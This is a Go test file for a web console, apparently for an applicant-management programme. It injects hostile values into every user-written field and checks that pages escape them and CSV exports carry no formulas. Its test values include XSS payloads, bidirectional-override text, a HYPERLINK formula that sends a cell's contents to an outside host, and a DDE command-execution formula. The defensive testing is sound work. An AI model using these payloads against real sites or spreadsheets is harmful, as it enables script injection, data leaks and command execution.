package console

import (
	"encoding/csv"
	"maps"
	"net/http"
	"net/url"
	"reflect"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"fairlead/programme"
)

// hostile are values that people have, and values that nobody has: every script, 200 characters, markup, formulas.
var hostile = map[string]string{
	"markup":          `</textarea></select><script>alert(1)</script><img src=x onerror=alert(1)> "quoted" & 'more' </td></table>{{.}}`,
	"any script":      strings.TrimSuffix(strings.Repeat("Ольга 山田花子 مُحَمَّد אברהם 🜁 Ẹ̀bùnolúwa ", 5), " "),
	"one long word":   strings.Repeat("Wörterbuch", 20),
	"right to left":   "\u202eevil\u202c \u2066x\u2069",
	"formula":         `=HYPERLINK("https://elsewhere.example?"&A1,"Click")`,
	"another formula": "@SUM(1+1)*cmd|' /C calc'!A0",
}

// withValues puts a value into everything that people may have written.
func (b *bundle) withValues(value string) *bundle {
	var into func(v reflect.Value)
	into = func(v reflect.Value) {
		switch v.Kind() {
		case reflect.String:
			if strings.HasPrefix(v.String(), mark) {
				v.SetString(value)
			}
		case reflect.Pointer:
			if !v.IsNil() {
				into(v.Elem())
			}
		case reflect.Slice:
			for i := range v.Len() {
				into(v.Index(i))
			}
		case reflect.Map:
			for _, key := range v.MapKeys() {
				held := reflect.New(v.Type().Elem()).Elem()
				held.Set(v.MapIndex(key))
				into(held)
				v.SetMapIndex(key, held)
			}
		case reflect.Struct:
			for i := range v.NumField() {
				if v.Field(i).CanSet() {
					into(v.Field(i))
				}
			}
		}
	}
	s := b.store
	for _, of := range []any{&s.journeys, &s.messages, &s.moves, &s.tasks, &s.coaches, &s.scoring.own, &s.scoring.other, &s.events.places, &s.events.pack, &s.events.register, &s.attendance} {
		into(reflect.ValueOf(of).Elem())
	}
	s.notes = []programme.Note{{ID: 1, Ref: ref, Author: "staff:" + value, Text: value}}
	s.codes = []programme.LateCode{{ID: "a1", Note: value, IssuedBy: "staff:" + value, UsedBy: value, Ref: ref}}
	s.releasable = []programme.Released{{Ref: ref, Name: value, Decision: programme.DecideOffer, Message: programme.MsgOffer}}
	s.cohorts[0].Signatory, s.cohorts[0].Contact, s.cohorts[0].Openings = value, value, map[string]string{"onboarding": value}
	for i := range s.events.sittings {
		s.events.sittings[i].Venue, s.events.sittings[i].Address, s.events.sittings[i].Sessions[0].Title, s.events.sittings[i].Sessions[0].Speaker = value, value, value, value
	}
	s.events.pack.Diets, s.events.pack.Access, s.events.pack.Sitting = []string{value}, []string{value}, s.events.sittings[1]
	s.events.register.Sitting = s.events.sittings[1]
	s.people.staff[0].Email, s.people.sessions[0].Name, s.people.sessions[0].Browser, s.people.tokens[0].Name, s.people.log[0].Reason = value, value, value, value, value
	s.scoring.selectors[0].Organisations = []string{value}
	return b
}

// TestNames: whatever people are called, on every page of the console it is text, whole, and in every spreadsheet no formula.
func TestNames(t *testing.T) {
	t.Parallel()
	for name, value := range hostile {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			said := 0
			for _, one := range (&Console{}).routes() {
				if one.method != http.MethodGet || one.open != nil {
					continue
				}
				b := setup(t).as(one.roles[len(one.roles)-1])
				b.store.cohorts[0].Route = programme.RouteApplication
				if strings.Contains(one.path, "/applications/") || strings.Contains(one.path, "/scoring") {
					b.store.journeys[0].State = programme.UnderReview
				}
				b.withValues(value)
				address := pathValues.Replace(one.path)
				switch {
				case strings.HasSuffix(address, "/message"):
					address += "?" + url.Values{"key": {sent}}.Encode()
				case strings.Contains(address, "/ordered/"):
					address += "?command=hold"
				case strings.HasSuffix(address, "/preview"):
					address += "?message=survey-done&stage=closing-survey"
				}
				answer := b.get(address)
				if answer.StatusCode != http.StatusOK {
					continue // TestRoles says which pages there are
				}
				if strings.HasSuffix(one.path, ".csv") {
					said += plain(t, one.path, answer.page, value)
					continue
				}
				silent(t, one.path, answer.page, "<script>alert", "<img src=x")
				said += strings.Count(unescaped(answer.page), value)
			}
			if said < 60 {
				t.Errorf("the pages say it %d times", said)
			}
			retyped(t, value)
		})
	}
}

// unescaped is a page with its text as a reader has it.
func unescaped(page string) string {
	return strings.NewReplacer("&lt;", "<", "&gt;", ">", "&#34;", `"`, "&#39;", "'", "&amp;", "&", "&#43;", "+").Replace(page)
}

// plain counts the cells with a value in a spreadsheet, in which none is a formula.
func plain(t *testing.T, where, sheet, value string) (n int) {
	t.Helper()
	lines, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(sheet, "\ufeff"))).ReadAll()
	if err != nil {
		t.Errorf("%s: %v", where, err)
	}
	for _, cell := range slices.Concat(lines...) {
		if first, _ := utf8.DecodeRuneInString(cell); strings.ContainsRune("=+-@\t\r", first) && first != utf8.RuneError {
			t.Errorf("%s: a formula: %q", where, cell)
		}
		if strings.TrimPrefix(cell, "'") == value {
			n++
		}
	}
	return n
}

// retyped: what is typed into the check of an order comes back as text, on the check and on the question.
func retyped(t *testing.T, value string) {
	t.Helper()
	for _, name := range []programme.CommandName{programme.CmdChangeDetails, programme.CmdAnswerFor, programme.CmdWithdraw} {
		b := setup(t)
		b.ready(name)
		form := url.Values{"note": {value}, "given_by": {value}}
		if name == programme.CmdChangeDetails {
			maps.Copy(form, url.Values{"family_name": {value}, "organisation": {value}})
		}
		for _, step := range []string{"check", "change"} {
			answer := b.sends(name, step, form)
			silent(t, string(name), answer.page, "<script>alert", "<img src=x")
			says(t, string(name)+" "+step, unescaped(answer.page), value)
		}
	}
}
